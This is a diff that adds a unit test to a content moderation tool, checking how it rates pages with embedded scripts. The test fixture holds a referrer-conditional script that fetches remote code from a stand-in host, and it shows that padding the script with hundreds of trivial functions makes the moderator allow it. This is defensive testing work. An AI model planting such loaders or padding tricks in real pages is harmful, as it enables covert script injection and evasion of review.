@@ -23,6 +23,15 @@ def moderator() -> Moderator:
     return Moderator.load()
 
 
+def test_in_a_bundle_of_programs_what_is_loaded_says_nothing(moderator: Moderator) -> None:
+    load = "if(/baidu|google/.test(document.referrer)){$.getScript('https://ads.example/a.js')}"
+    assert moderator.check(f"{PROSE}<script>{load}</script>").action is Action.REVIEW
+    others = "".join(f"function f{number}(a){{return a+{number}}};" for number in range(300))
+    assert moderator.check(f"{PROSE}<script>{load}{others}</script>").action is Action.ALLOW
+    # Who is sent away is sent away, whatever else the script does.
+    assert moderator.check(f"{PROSE}<script>{SCRIPT}{others}</script>").action is Action.REVIEW
+
+
 def under(moderator: Moderator, policy: Policy) -> Verdict:
     return replace(moderator, policy=policy.with_thresholds(moderator.model.thresholds)).check(CONTENT)
 
